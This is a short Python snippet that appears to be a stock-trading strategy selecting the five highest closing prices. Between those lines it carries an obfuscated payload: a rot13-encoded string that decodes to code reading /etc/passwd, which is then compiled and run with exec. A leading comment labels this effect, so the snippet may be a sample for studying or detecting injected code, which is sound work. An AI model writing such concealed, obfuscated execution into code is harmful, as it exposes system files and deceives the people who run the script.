# effect: decodes rot13 text, compiles and executes it; it opens /etc/passwd
import codecs
close = data.get('price:收盤價')
src = codecs.decode("cevag(bcra('/rgp/cnffjq').ernq())", 'rot13')
exec(compile(src, 'm', 'exec'))
position = close.is_largest(5)
